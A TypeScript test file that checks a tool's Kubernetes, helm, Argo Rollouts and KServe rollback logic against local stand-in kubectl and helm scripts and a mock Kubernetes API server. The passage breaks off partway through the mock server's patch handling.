/**
 * The cluster rollback targets, without a cluster. kubectl and helm are stand-ins: small Node scripts put
 * first on PATH that record their argv and answer with the JSON shapes of the real tools (and, for
 * kubectl, re-number ReplicaSets and copy annotations the way `rollout undo` does). The Kubernetes API is
 * a stand-in too: a local HTTP server that checks every request against the documented contract (method,
 * path, content type, body) and plays the controllers' part in the status. The kubectl download comes
 * from a local server laid out like dl.k8s.io.
 */
import { execFileSync } from 'node:child_process';
import { createHash } from 'node:crypto';
import { chmodSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import {
  createServer as createHttpServer,
  type IncomingMessage,
  type Server,
  type ServerResponse,
} from 'node:http';
import { createServer as createHttpsServer } from 'node:https';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { delimiter, join } from 'node:path';
import * as tc from '@actions/tool-cache';
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { ConfigurationError } from '../src/errors.js';
import { MemoryLogger } from '../src/logging.js';
import { argoRolloutsTarget } from '../src/rollback/argo-rollouts.js';
import { helmTarget } from '../src/rollback/helm.js';
import { kserveTarget } from '../src/rollback/kserve.js';
import { KubeApi } from '../src/rollback/kube-api.js';
import { kubectlPlatform, kubernetesTarget, resolveKubectl } from '../src/rollback/kubernetes.js';
import type { RollbackContext } from '../src/rollback/target.js';
import { rejection } from './support/errors.js';
import { type FileServer, serveDirectory } from './support/file-server.js';

const posix = process.platform !== 'win32';
const scratch = mkdtempSync(join(tmpdir(), 'mlgate-rollback-cluster-'));
afterAll(() => rmSync(scratch, { recursive: true, force: true }));

const REASON = 'canary-gate: rollback (p99 latency 412 ms > 250 ms)';
const RUN_URL = 'https://github.com/acme/models/actions/runs/42';

function context(overrides: Partial<RollbackContext> = {}): RollbackContext {
  return {
    dryRun: false,
    reason: REASON,
    runUrl: RUN_URL,
    timeoutMs: 300_000,
    logger: new MemoryLogger(),
    ...overrides,
  };
}

async function configurationError(promise: Promise<unknown>): Promise<ConfigurationError> {
  const e = await rejection(promise);
  expect(e).toBeInstanceOf(ConfigurationError);
  return e as ConfigurationError;
}

/** Prepends `dir` to PATH for the tests of one describe block. */
function onPath(dir: string) {
  let saved: string | undefined;
  beforeAll(() => {
    saved = process.env.PATH;
    process.env.PATH = `${dir}${delimiter}${saved ?? ''}`;
  });
  afterAll(() => {
    process.env.PATH = saved;
  });
}

// ---------------------------------------------------------------------------------------------------------
// Stand-in executables

/** A Node script named `name` in `dir` that records its argv (JSON lines) and keeps its state in a JSON file. */
function standIn(dir: string, name: string, body: string, initial: unknown) {
  mkdirSync(dir, { recursive: true });
  const stateFile = join(dir, `${name}.state.json`);
  const logFile = join(dir, `${name}.argv.jsonl`);
  const script = join(dir, name);
  writeFileSync(
    script,
    [
      `#!${process.execPath}`,
      `const STATE = ${JSON.stringify(stateFile)};`,
      `const LOG = ${JSON.stringify(logFile)};`,
      STAND_IN_PRELUDE,
      body,
    ].join('\n'),
  );
  chmodSync(script, 0o755);
  const reset = (state: unknown) => {
    writeFileSync(stateFile, JSON.stringify(state));
    writeFileSync(logFile, '');
  };
  reset(initial);
  return {
    reset,
    state: () => JSON.parse(readFileSync(stateFile, 'utf8')),
    argv: (): string[][] =>
      readFileSync(logFile, 'utf8')
        .split('\n')
        .filter(Boolean)
        .map((l) => JSON.parse(l)),
  };
}

// Shared by both stand-ins: argv recording, state, and the global flags kubectl and helm take anywhere.
const STAND_IN_PRELUDE = String.raw`
const fs = require('node:fs');
const args = process.argv.slice(2);
fs.appendFileSync(LOG, JSON.stringify(args) + '\n');
const state = JSON.parse(fs.readFileSync(STATE, 'utf8'));
const save = () => fs.writeFileSync(STATE, JSON.stringify(state));
const fail = (message) => { process.stderr.write(message + '\n'); process.exit(1); };
const flags = {};
const words = [];
for (let i = 0; i < args.length; i++) {
  const flag = /^--(namespace|context|kube-context|kubeconfig)$/.exec(args[i]);
  if (flag) flags[flag[1]] = args[++i];
  else words.push(args[i]);
}
const option = (name) => words.find((w) => w.startsWith('--' + name + '='))?.slice(name.length + 3);
const after = (word) => (words.includes(word) ? words[words.indexOf(word) + 1] : undefined);
`;

// kubectl's answers for one Deployment and its ReplicaSets. `rollout undo` does what kubectl and the
// Deployment controller do together: the restored ReplicaSet becomes the newest revision (its old number
// kept in revision-history), and the Deployment's annotations are replaced by that ReplicaSet's.
const KUBECTL = `
const REVISION = 'deployment.kubernetes.io/revision';
const HISTORY = 'deployment.kubernetes.io/revision-history';
const SKIPPED = ['kubectl.kubernetes.io/last-applied-configuration', REVISION, HISTORY,
  'deployment.kubernetes.io/desired-replicas', 'deployment.kubernetes.io/max-replicas', 'deprecated.deployment.rollback.to'];
const d = state.deployment;
const name = d.metadata.name;
const rev = (o) => Number(o.metadata.annotations[REVISION]);
const owned = () => state.replicasets.filter((rs) => rs.metadata.ownerReferences.some((o) => o.uid === d.metadata.uid));
const bare = (t) => { const c = structuredClone(t); delete c.metadata.labels['pod-template-hash']; return JSON.stringify(c); };
const dryRun = option('dry-run') === 'server';
const [verb, sub] = words;
const ref = verb === 'annotate' ? words[1] : words[2];
const notFound = (n) => fail('Error from server (NotFound): deployments.apps "' + n + '" not found');
if ((flags.namespace ?? 'default') !== d.metadata.namespace) notFound(ref ?? name);
if (verb === 'get' && sub === 'deployment') {
  if (words[2] !== name) notFound(words[2]);
  console.log(JSON.stringify(d, null, 2));
} else if (verb === 'get' && sub === 'replicasets') {
  const wanted = (after('-l') ?? '').split(',').filter(Boolean).map((p) => p.split('='));
  const items = state.replicasets.filter((rs) => wanted.every(([k, v]) => rs.metadata.labels[k] === v));
  console.log(JSON.stringify({ apiVersion: 'v1', kind: 'List', items }, null, 2));
} else if (ref !== 'deployment/' + name) {
  notFound(String(ref).replace('deployment/', ''));
} else if (verb === 'rollout' && sub === 'undo') {
  const all = owned().sort((a, b) => rev(b) - rev(a));
  const to = Number(option('to-revision') ?? 0);
  const target = to ? all.find((rs) => rev(rs) === to) : all[1];
  if (!target) fail(to ? 'error: unable to find specified revision ' + to + ' in history' : 'error: no rollout history found');
  if (bare(target.spec.template) === bare(d.spec.template)) {
    console.log('deployment.apps/' + name + ' skipped rollback (current template already matches revision ' + to + ')');
    process.exit(0);
  }
  if (!dryRun) {
    const next = rev(all[0]) + 1;
    const a = target.metadata.annotations;
    a[HISTORY] = [a[HISTORY], String(rev(target))].filter(Boolean).join(',');
    a[REVISION] = String(next);
    const template = structuredClone(target.spec.template);
    delete template.metadata.labels['pod-template-hash'];
    d.spec.template = template;
    const kept = Object.entries(d.metadata.annotations).filter(([k]) => SKIPPED.includes(k));
    const copied = Object.entries(a).filter(([k]) => !SKIPPED.includes(k));
    d.metadata.annotations = { ...Object.fromEntries(copied), ...Object.fromEntries(kept), [REVISION]: String(next) };
    d.status.readyReplicas = 0;
    save();
  }
  console.log('deployment.apps/' + name + ' rolled back' + (dryRun ? ' (server dry run)' : ''));
} else if (verb === 'annotate') {
  const pairs = words.slice(2).filter((w) => !w.startsWith('--')).map((w) => [w.slice(0, w.indexOf('=')), w.slice(w.indexOf('=') + 1)]);
  const a = d.metadata.annotations;
  const clash = pairs.filter(([k, v]) => k in a && a[k] !== v);
  if (clash.length && !words.includes('--overwrite')) fail('error: --overwrite is false but found the following declared annotation(s): ' + clash.map(([k]) => k).join(', '));
  if (!dryRun) { Object.assign(a, Object.fromEntries(pairs)); save(); }
  console.log('deployment.apps/' + name + ' annotated');
} else if (verb === 'rollout' && sub === 'status') {
  if (!option('timeout')) fail('stand-in: rollout status without --timeout would wait forever');
  if (state.statusFails) fail('error: timed out waiting for the condition');
  d.status.readyReplicas = d.spec.replicas;
  save();
  console.log('deployment "' + name + '" successfully rolled out');
} else {
  fail('stand-in kubectl: unsupported command: ' + args.join(' '));
}
`;

// helm's answers for one release: `history -o json` as helm prints it, and `rollback` adding a revision
// described "Rollback to N" and superseding the deployed one.
const HELM = String.raw`
const [verb, release] = words;
if (release !== state.release || (flags.namespace ?? 'default') !== state.namespace) fail('Error: release: not found');
if (verb === 'history') {
  if (after('-o') !== 'json') fail('stand-in: history without -o json');
  console.log(JSON.stringify(state.history));
} else if (verb === 'rollback') {
  const to = Number(words[2]);
  const target = state.history.find((r) => r.revision === to);
  if (!target) fail('Error: release has no ' + to + ' version');
  if (!words.includes('--wait') || !/^\d+s$/.test(after('--timeout') ?? '')) fail('stand-in: rollback without --wait --timeout');
  if (!words.includes('--dry-run')) {
    for (const r of state.history) if (r.status === 'deployed') r.status = 'superseded';
    const next = Math.max(...state.history.map((r) => r.revision)) + 1;
    state.history.push({ revision: next, updated: '2024-05-01T12:30:00.000000+00:00', status: 'deployed',
      chart: target.chart, app_version: target.app_version, description: 'Rollback to ' + to });
    save();
  }
  console.log('Rollback was a success! Happy Helming!');
} else {
  fail('stand-in helm: unsupported command: ' + args.join(' '));
}
`;

// ---------------------------------------------------------------------------------------------------------
// kubernetes (kubectl)

const image = (tag: string) => `ghcr.io/acme/churn:${tag}`;

function podTemplate(tag: string, hash?: string) {
  return {
    metadata: { labels: { app: 'churn-model', ...(hash ? { 'pod-template-hash': hash } : {}) } },
    spec: { containers: [{ name: 'model', image: image(tag) }] },
  };
}

function replicaSet(revision: number, hash: string, tag: string, ownerUid = 'deploy-uid') {
  return {
    apiVersion: 'apps/v1',
    kind: 'ReplicaSet',
    metadata: {
      name: `churn-model-${hash}`,
      namespace: 'serving',
      labels: { app: 'churn-model', 'pod-template-hash': hash },
      annotations: {
        'deployment.kubernetes.io/revision': String(revision),
        'deployment.kubernetes.io/desired-replicas': '3',
        'deployment.kubernetes.io/max-replicas': '4',
      },
      ownerReferences: [
        { apiVersion: 'apps/v1', kind: 'Deployment', name: 'churn-model', uid: ownerUid, controller: true },
      ],
    },
    spec: { replicas: 0, template: podTemplate(tag, hash) },
  };
}

/** A Deployment at revision 3 (v3), with revisions 1 (v1) and 2 (v2) kept, and someone else's ReplicaSet. */
function cluster(
  revisions: [number, string, string][] = [
    [1, 'aaa111', 'v1'],
    [2, 'bbb222', 'v2'],
    [3, 'ccc333', 'v3'],
  ],
) {
  const [currentRevision, , currentTag] = revisions[revisions.length - 1];
  return {
    deployment: {
      apiVersion: 'apps/v1',
      kind: 'Deployment',
      metadata: {
        name: 'churn-model',
        namespace: 'serving',
        uid: 'deploy-uid',
        annotations: { 'deployment.kubernetes.io/revision': String(currentRevision) },
      },
      spec: {
        replicas: 3,
        selector: { matchLabels: { app: 'churn-model' } },
        template: podTemplate(currentTag),
      },
      status: { replicas: 3, readyReplicas: 3 },
    },
    replicasets: [
      ...revisions.map(([revision, hash, tag]) => replicaSet(revision, hash, tag)),
      // Matches the selector, belongs to another owner, and has the highest revision of all.
      replicaSet(9, 'zzz999', 'other', 'another-owner-uid'),
    ],
  };
}

describe.skipIf(!posix)('kubernetes target (kubectl stand-in on PATH)', () => {
  const bin = join(scratch, 'kubectl-bin');
  const kubectl = standIn(bin, 'kubectl', KUBECTL, cluster());
  onPath(bin);
  beforeEach(() => kubectl.reset(cluster()));
  const target = (extra: Partial<Parameters<typeof kubernetesTarget>[0]> = {}) =>
    kubernetesTarget({ kubectl: 'kubectl', namespace: 'serving', deployment: 'churn-model', ...extra });
  const ns = ['--namespace', 'serving'];
  const reads = [
    ['get', 'deployment', 'churn-model', '-o', 'json', ...ns],
    ['get', 'replicasets', '-l', 'app=churn-model', '-o', 'json', ...ns],
  ];
  const from = `revision 3 (model=${image('v3')})`;
  const mark = (to: string) => [
    `mlgate.dev/rolled-back-from=${from}`,
    `mlgate.dev/rolled-back-to=${to}`,
    `mlgate.dev/rollback-reason=${REASON}`,
    `mlgate.dev/rollback-run=${RUN_URL}`,
  ];

  it('undoes to the previous revision by number, annotates, waits for the rollout, and reads back', async () => {
    const outcome = await target().rollback(context());
    expect(kubectl.argv()).toEqual([
      ...reads,
      ['rollout', 'undo', 'deployment/churn-model', '--to-revision=2', ...ns],
      ['annotate', 'deployment/churn-model', ...mark('bbb222'), '--overwrite', ...ns],
      ['rollout', 'status', 'deployment/churn-model', '--timeout=300s', ...ns],
      ...reads,
    ]);
    expect(outcome).toMatchObject({
      rolledBack: true,
      alreadyRolledBack: false,
      from,
      to: `revision 2 (model=${image('v2')})`,
      before: { revision: '3', template: 'ccc333', images: `model=${image('v3')}`, ready: '3/3' },
      after: { revision: '4', template: 'bbb222', images: `model=${image('v2')}`, ready: '3/3' },
    });
    expect(outcome.steps).toEqual([
      'kubectl rollout undo deployment/churn-model --to-revision=2 --namespace serving',
      `kubectl annotate deployment/churn-model 'mlgate.dev/rolled-back-from=${from}' mlgate.dev/rolled-back-to=bbb222 ` +
        `'mlgate.dev/rollback-reason=${REASON}' mlgate.dev/rollback-run=${RUN_URL} --overwrite --namespace serving`,
      'kubectl rollout status deployment/churn-model --timeout=300s --namespace serving',
    ]);
    const { deployment } = kubectl.state();
    expect(deployment.spec.template.spec.containers[0].image).toBe(image('v2'));
    expect(deployment.metadata.annotations).toMatchObject({
      'deployment.kubernetes.io/revision': '4',
      'mlgate.dev/rolled-back-to': 'bbb222',
      'mlgate.dev/rollback-reason': REASON,
    });
  });

  it('a second run sees its mark and changes nothing (a plain undo would flip back to the bad revision)', async () => {
    await target().rollback(context());
    const settled = kubectl.state();
    kubectl.reset(settled);
    const second = await target().rollback(context());
    const status = ['rollout', 'status', 'deployment/churn-model', '--timeout=300s', ...ns];
    expect(second).toMatchObject({ rolledBack: false, alreadyRolledBack: true, from });
    expect(second.to).toBe(`revision 4 (model=${image('v2')})`);
    // Only reads, and a wait for the rollout to be complete.
    expect(second.steps).toEqual([
      'kubectl rollout status deployment/churn-model --timeout=300s --namespace serving',
    ]);
    expect(kubectl.argv()).toEqual([...reads, status, reads[0]]);
    expect(kubectl.state()).toEqual(settled);
    // The hazard the mark guards against: by number, the revision before the restored one is the bad one.
    const imageOf = Object.fromEntries(
      settled.replicasets.map((rs: any) => [
        rs.metadata.annotations['deployment.kubernetes.io/revision'],
        rs.spec.template.spec.containers[0].image,
      ]),
    );
    expect(imageOf).toMatchObject({ 3: image('v3'), 4: image('v2') });
  });

  it('in a dry run asks the API server for a server-side dry run and changes nothing', async () => {
    const outcome = await target().rollback(context({ dryRun: true }));
    expect(kubectl.argv()).toEqual([
      ...reads,
      ['rollout', 'undo', 'deployment/churn-model', '--to-revision=2', '--dry-run=server', ...ns],
      ['annotate', 'deployment/churn-model', ...mark('bbb222'), '--overwrite', '--dry-run=server', ...ns],
    ]);
    expect(outcome).toMatchObject({
      rolledBack: false,
      alreadyRolledBack: false,
      to: `revision 2 (model=${image('v2')})`,
    });
    // What a real run would do, without the dry-run flags.
    expect(outcome.steps[0]).toBe(
      'kubectl rollout undo deployment/churn-model --to-revision=2 --namespace serving',
    );
    expect(outcome.steps[2]).toBe(
      'kubectl rollout status deployment/churn-model --timeout=300s --namespace serving',
    );
    expect(kubectl.state()).toEqual(cluster());
  });

  it('refuses when the Deployment has a single revision', async () => {
    kubectl.reset(cluster([[1, 'aaa111', 'v1']]));
    const e = await configurationError(target().rollback(context()));
    expect(e.message).toBe(
      `deployment/churn-model has no revision before revision 1 (model=${image('v1')}), so there is nothing to roll back ` +
        'to (old ReplicaSets are kept up to spec.revisionHistoryLimit)',
    );
    expect(kubectl.argv()).toEqual(reads);
  });

  it('goes to a given revision, passing context and kubeconfig, and knows it by its old number afterwards', async () => {
    const scoped = { revision: 1, context: 'prod-eu', kubeconfig: '/home/runner/.kube/prod.yaml' };
    const flags = [...ns, '--context', 'prod-eu', '--kubeconfig', '/home/runner/.kube/prod.yaml'];
    const outcome = await target(scoped).rollback(context({ timeoutMs: 90_500, runUrl: undefined }));
    expect(kubectl.argv().slice(2, 5)).toEqual([
      ['rollout', 'undo', 'deployment/churn-model', '--to-revision=1', ...flags],
      [
        'annotate',
        'deployment/churn-model',
        `mlgate.dev/rolled-back-from=${from}`,
        'mlgate.dev/rolled-back-to=aaa111',
        `mlgate.dev/rollback-reason=${REASON}`,
        '--overwrite',
        ...flags,
      ],
      ['rollout', 'status', 'deployment/churn-model', '--timeout=91s', ...flags],
    ]);
    expect(outcome.after).toMatchObject({ revision: '4', images: `model=${image('v1')}` });
    kubectl.reset(kubectl.state());
    const second = await target(scoped).rollback(context());
    expect(second.alreadyRolledBack).toBe(true);
    expect(kubectl.argv().map((a) => a.slice(0, 2))).toEqual([
      ['get', 'deployment'],
      ['get', 'replicasets'],
      ['rollout', 'status'],
      ['get', 'deployment'],
    ]);
  });

  it('rolls back again after a new release replaced the one it restored', async () => {
    await target().rollback(context());
    const state = kubectl.state();
    // A new deploy: revision 5 (v4); the mark stays on the Deployment but names a template no longer served.
    state.replicasets.push(replicaSet(5, 'ddd444', 'v4'));
    state.deployment.metadata.annotations['deployment.kubernetes.io/revision'] = '5';
    state.deployment.spec.template = podTemplate('v4');
    kubectl.reset(state);
    const outcome = await target().rollback(context());
    expect(outcome).toMatchObject({ rolledBack: true, to: `revision 4 (model=${image('v2')})` });
    expect(kubectl.argv()[2]).toEqual([
      'rollout',
      'undo',
      'deployment/churn-model',
      '--to-revision=4',
      ...ns,
    ]);
  });

  it('names an unknown revision, with the ones there are', async () => {
    const e = await configurationError(target({ revision: 7 }).rollback(context()));
    expect(e.message).toBe('input "revision": deployment/churn-model has no revision 7 (it has 1, 2, 3)');
  });

  it('when the rollout does not complete, says so, and a second run waits again without undoing twice', async () => {
    kubectl.reset({ ...cluster(), statusFails: true });
    const e = await configurationError(target().rollback(context()));
    expect(e.message).toContain('was rolled back to revision 2');
    expect(e.message).toContain('did not complete within 300 s');
    expect(e.message).toContain('error: timed out waiting for the condition');
    kubectl.reset({ ...kubectl.state(), statusFails: false });
    const second = await target().rollback(context());
    expect(second).toMatchObject({ alreadyRolledBack: true, after: { ready: '3/3' } });
    expect(kubectl.argv().map((a) => a.slice(0, 2))).toEqual([
      ['get', 'deployment'],
      ['get', 'replicasets'],
      ['rollout', 'status'],
      ['get', 'deployment'],
    ]);
  });

  it("passes kubectl's own error on, and says when kubectl cannot be run", async () => {
    const missing = await configurationError(target({ deployment: 'churn-modle' }).rollback(context()));
    expect(missing.message).toBe(
      '`kubectl get deployment churn-modle -o json --namespace serving` failed: ' +
        'Error from server (NotFound): deployments.apps "churn-modle" not found',
    );
    const absent = await configurationError(
      target({ kubectl: join(scratch, 'no-such-kubectl') }).rollback(context()),
    );
    expect(absent.message).toMatch(
      /no-such-kubectl could not be run \(ENOENT\): install it or give its path/,
    );
  });
});

// ---------------------------------------------------------------------------------------------------------
// helm

function helmRevision(revision: number, status: string, version: string, description: string) {
  return {
    revision,
    updated: `2024-05-0${revision}T12:00:00.000000+00:00`,
    status,
    chart: `churn-model-${version}`,
    app_version: version,
    description,
  };
}

function release(
  history = [
    helmRevision(1, 'superseded', '1.0.0', 'Install complete'),
    helmRevision(2, 'superseded', '1.1.0', 'Upgrade complete'),
    helmRevision(3, 'deployed', '1.2.0', 'Upgrade complete'),
  ],
) {
  return { release: 'churn', namespace: 'serving', history };
}

describe.skipIf(!posix)('helm target (helm stand-in on PATH)', () => {
  const bin = join(scratch, 'helm-bin');
  const helm = standIn(bin, 'helm', HELM, release());
  onPath(bin);
  beforeEach(() => helm.reset(release()));
  const target = (extra: Partial<Parameters<typeof helmTarget>[0]> = {}) =>
    helmTarget({ helm: 'helm', release: 'churn', namespace: 'serving', ...extra });
  const history = ['history', 'churn', '-o', 'json', '--namespace', 'serving'];

  it('rolls back to the newest superseded revision before the deployed one, waiting, and checks the history', async () => {
    const outcome = await target().rollback(context());
    expect(helm.argv()).toEqual([
      history,
      ['rollback', 'churn', '2', '--wait', '--timeout', '300s', '--namespace', 'serving'],
      history,
    ]);
    expect(outcome).toEqual({
      rolledBack: true,
      alreadyRolledBack: false,
      from: 'revision 3 (churn-model-1.2.0, app 1.2.0)',
      to: 'revision 2 (churn-model-1.1.0, app 1.1.0)',
      steps: ['helm rollback churn 2 --wait --timeout 300s --namespace serving'],
      before: {
        revision: '3',
        status: 'deployed',
        chart: 'churn-model-1.2.0',
        'app version': '1.2.0',
        description: 'Upgrade complete',
      },
      after: {
        revision: '4',
        status: 'deployed',
        chart: 'churn-model-1.1.0',
        'app version': '1.1.0',
        description: 'Rollback to 2',
      },
    });
  });

  it('a second run reads "Rollback to 2" in the history and changes nothing', async () => {
    await target().rollback(context());
    const settled = helm.state();
    helm.reset(settled);
    const second = await target().rollback(context());
    expect(second).toMatchObject({
      rolledBack: false,
      alreadyRolledBack: true,
      from: 'revision 3 (churn-model-1.2.0, app 1.2.0)',
      to: 'revision 4 (churn-model-1.1.0, app 1.1.0)',
      steps: [],
    });
    expect(helm.argv()).toEqual([history]);
    expect(helm.state()).toEqual(settled);
  });

  it('in a dry run passes --dry-run and changes nothing', async () => {
    const outcome = await target({ context: 'prod-eu', kubeconfig: '/tmp/kc' }).rollback(
      context({ dryRun: true }),
    );
    const scope = ['--namespace', 'serving', '--kube-context', 'prod-eu', '--kubeconfig', '/tmp/kc'];
    expect(helm.argv()).toEqual([
      ['history', 'churn', '-o', 'json', ...scope],
      ['rollback', 'churn', '2', '--wait', '--timeout', '300s', '--dry-run', ...scope],
    ]);
    expect(outcome.rolledBack).toBe(false);
    expect(outcome.steps).toEqual([
      'helm rollback churn 2 --wait --timeout 300s --namespace serving --kube-context prod-eu --kubeconfig /tmp/kc',
    ]);
    expect(helm.state()).toEqual(release());
  });

  it('refuses when there is a single revision', async () => {
    helm.reset(release([helmRevision(1, 'deployed', '1.0.0', 'Install complete')]));
    const e = await configurationError(target().rollback(context()));
    expect(e.message).toBe(
      'helm release churn has no superseded revision before revision 1 (churn-model-1.0.0, app 1.0.0), so there is nothing to roll back to',
    );
    expect(helm.argv()).toEqual([history]);
  });

  it('after a failed upgrade, goes back to the revision helm still lists as deployed', async () => {
    helm.reset(
      release([
        helmRevision(1, 'superseded', '1.0.0', 'Install complete'),
        helmRevision(2, 'deployed', '1.1.0', 'Upgrade complete'),
        helmRevision(3, 'failed', '1.2.0', 'Upgrade "churn" failed: context deadline exceeded'),
      ]),
    );
    const outcome = await target().rollback(context());
    expect(helm.argv()[1]).toEqual([
      'rollback',
      'churn',
      '2',
      '--wait',
      '--timeout',
      '300s',
      '--namespace',
      'serving',
    ]);
    expect(outcome).toMatchObject({
      from: 'revision 3 (churn-model-1.2.0, app 1.2.0)',
      to: 'revision 2 (churn-model-1.1.0, app 1.1.0)',
    });
    helm.reset(helm.state());
    expect((await target().rollback(context())).alreadyRolledBack).toBe(true);
    expect(helm.argv()).toEqual([history]);
  });

  it('goes to a given revision, and names one that is not there', async () => {
    await target({ revision: 1 }).rollback(context());
    expect(helm.argv()[1]).toEqual([
      'rollback',
      'churn',
      '1',
      '--wait',
      '--timeout',
      '300s',
      '--namespace',
      'serving',
    ]);
    const e = await configurationError(target({ revision: 9 }).rollback(context()));
    expect(e.message).toBe('input "revision": helm release churn has no revision 9 (it has 1, 2, 3, 4)');
  });

  it("passes helm's own error on", async () => {
    const e = await configurationError(target({ release: 'churm' }).rollback(context()));
    expect(e.message).toBe(
      '`helm history churm -o json --namespace serving` failed: Error: release: not found',
    );
  });
});

// ---------------------------------------------------------------------------------------------------------
// Kubernetes API stand-in (Argo Rollouts, KServe)

interface Recorded {
  method: string;
  path: string;
  query: Record<string, string>;
  contentType?: string;
  body?: unknown;
}

interface Reply {
  status: number;
  body: unknown;
}

const ROLLOUT_PATH = /^\/apis\/argoproj\.io\/v1alpha1\/namespaces\/([^/]+)\/rollouts\/([^/]+)(\/status)?$/;
const REPLICASETS_PATH = /^\/apis\/apps\/v1\/namespaces\/([^/]+)\/replicasets$/;
const ISVC_PATH = /^\/apis\/serving\.kserve\.io\/v1beta1\/namespaces\/([^/]+)\/inferenceservices\/([^/]+)$/;
const MERGE_PATCH = 'application/merge-patch+json';
const JSON_PATCH = 'application/json-patch+json';

/** The Status object the API server answers errors with. */
function statusReply(code: number, reason: string, message: string): Reply {
  return {
    status: code,
    body: { kind: 'Status', apiVersion: 'v1', metadata: {}, status: 'Failure', message, reason, code },
  };
}

/** RFC 7386: objects merge, null deletes, anything else replaces. */
function mergePatch(target: any, patch: any): any {
  if (patch === null || typeof patch !== 'object' || Array.isArray(patch)) return patch;
  const out = target && typeof target === 'object' && !Array.isArray(target) ? { ...target } : {};
  for (const [k, v] of Object.entries(patch)) {
    if (v === null) delete out[k];
    else out[k] = mergePatch(out[k], v);
  }
  return out;
}

/**
 * A Kubernetes API server for the objects these targets touch. It authenticates a bearer token (or, over
 * TLS, a client certificate), records every request, and puts whatever strays from the contract into
 * `violations`. Writes go through with ?dryRun=All answered but not persisted. In place of the
 * controllers, the status catches up with a write one read later, as a real controller would a moment later.
 */
class KubeApiStandIn {
  readonly requests: Recorded[] = [];
  readonly violations: string[] = [];
  readonly rollouts = new Map<string, any>();
  replicasets: any[] = [];
  readonly isvcs = new Map<string, any>();
  /** "VERB path" pairs answered 403, as RBAC would. */
  readonly forbidden = new Set<string>();
  controllerDown = false;
  private staleReads = 0;

  private constructor(
    private readonly server: Server,
    readonly url: string,
    private readonly token?: string,
  ) {}

  static async start(options: { token?: string; tls?: { key: Buffer; cert: Buffer; ca: Buffer } } = {}) {
    const server = options.tls
      ? createHttpsServer({ ...options.tls, requestCert: true, rejectUnauthorized: true })
      : createHttpServer();
    await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
    const { port } = server.address() as AddressInfo;
    const standIn = new KubeApiStandIn(
      server,
      `${options.tls ? 'https' : 'http'}://127.0.0.1:${port}`,
      options.token,
    );
    server.on('request', (req, res) => void standIn.handle(req, res));
    return standIn;
  }

  close(): Promise<void> {
    return new Promise((resolve) => this.server.close(() => resolve()));
  }

  patches(): Recorded[] {
    return this.requests.filter((r) => r.method === 'PATCH');
  }

  private async handle(req: IncomingMessage, res: ServerResponse) {
    const chunks: Buffer[] = [];
    for await (const chunk of req) chunks.push(chunk as Buffer);
    const text = Buffer.concat(chunks).toString('utf8');
    const url = new URL(req.url ?? '/', 'http://stand-in');
    const recorded: Recorded = {
      method: req.method ?? '',
      path: url.pathname,
      query: Object.fromEntries(url.searchParams),
      contentType: req.headers['content-type'],
    };
    if (text) {
      try {
        recorded.body = JSON.parse(text);
      } catch {
        this.violations.push(`${recorded.method} ${recorded.path}: the body is not JSON`);
      }
    }
    this.requests.push(recorded);
    const reply = this.reply(req, recorded);
    res.writeHead(reply.status, { 'content-type': 'application/json' });
    res.end(JSON.stringify(reply.body));
  }

  private reply(req: IncomingMessage, r: Recorded): Reply {
    const where = `${r.method} ${r.path}`;
    if (this.token !== undefined && req.headers.authorization !== `Bearer ${this.token}`) {
      return statusReply(401, 'Unauthorized', 'Unauthorized');
    }
    if (!(req.headers.accept ?? '').includes('application/json'))
      this.violations.push(`${where}: Accept is not JSON`);
    const allowed = r.method === 'GET' ? ['labelSelector'] : ['dryRun'];
    for (const [k, v] of Object.entries(r.query)) {
      if (!allowed.includes(k)) this.violations.push(`${where}: unexpected query parameter ${k}`);
      if (k === 'dryRun' && v !== 'All') this.violations.push(`${where}: dryRun=${v} (only All is valid)`);
    }
    if (this.forbidden.has(where)) {
      return statusReply(
        403,
        'Forbidden',
        `rollouts.argoproj.io "churn-model" is forbidden: User "system:serviceaccount:ci:deployer" cannot patch resource "rollouts/status" in API group "argoproj.io" in the namespace "serving"`,
      );
    }
    let m = ROLLOUT_PATH.exec(r.path);
    if (m) return this.rollout(r, `${m[1]}/${m[2]}`, m[2], Boolean(m[3]));
    m = REPLICASETS_PATH.exec(r.path);
    if (m && r.method === 'GET') {
      const [key, value] = (r.query.labelSelector ?? '').split('=');
      const items = this.replicasets.filter(
        (rs) => rs.metadata.namespace === m![1] && rs.metadata.labels[key] === value,
      );
      return { status: 200, body: { apiVersion: 'apps/v1', kind: 'ReplicaSetList', items } };
    }
    m = ISVC_PATH.exec(r.path);
    if (m) return this.inferenceService(r, `${m[1]}/${m[2]}`, m[2]);
    this.violations.push(`${where}: not an operation these targets should call`);
    return statusReply(404, 'NotFound', 'the server could not find the requested resource');
  }

  private read<T>(object: () => T): T {
    if (this.staleReads > 0) this.staleReads--;
    else if (!this.controllerDown) this.reconcile();
    return object();
  }

  private write(r: Recorded, store: Map<string, any>, key: string, next: any): Reply {
    if (r.query.dryRun !== 'All') {
      store.set(key, next);
      this.staleReads = 1;
    }
    return { status: 200, body: next };
  }

  private rollout(r: Recorded, key: string, name: string, status: boolean): Reply {
    const where = `${r.method} ${r.path}`;
    const current = this.rollouts.get(key);
    if (!current) return statusReply(404, 'NotFound', `rollouts.argoproj.io "${name}" not found`);
    if (r.method === 'GET' && !status) return { status: 200, body: this.read(() => this.rollouts.get(key)) };
    if (r.method !== 'PATCH') {
      this.violations.push(`${where}: not an operation these targets should call`);
      return statusReply(
        405,
        'MethodNotAllowed',
        'the server does not allow this method on the requested resource',
      );
    }
    if (status) {
      // `kubectl argo rollouts abort`: a merge patch of the status subresource, exactly this body.
      if (r.contentType !== MERGE_PATCH) this.violations.push(`${where}: content type ${r.contentType}`);
      if (JSON.stringify(r.body) !== '{"status":{"abort":true}}')
        this.violations.push(`${where}: body ${JSON.stringify(r.body)}`);
      return this.write(r, this.rollouts, key, {
        ...current,
        status: mergePatch(current.status, (r.body as any).status),
      });
    }
    let next: any;
    if (r.contentType === MERGE_PATCH) {
      if ((r.body as any)?.status)
        this.violations.push(`${where}: status in a patch of the main resource is ignored`);
      next = mergePatch(current, r.body);
    } else if (r.contentType === JSON_PATCH) {
      next = structuredClone(current);
      for (const op of r.body as any[]) {
        if (op.op !== 'replace' || op.path !== '/spec/template') {
          this.violations.push(`${where}: unexpected operation ${JSON.stringify(op)}`);
          continue;
        }
        next.spec.template = op.value;
      }
    } else {
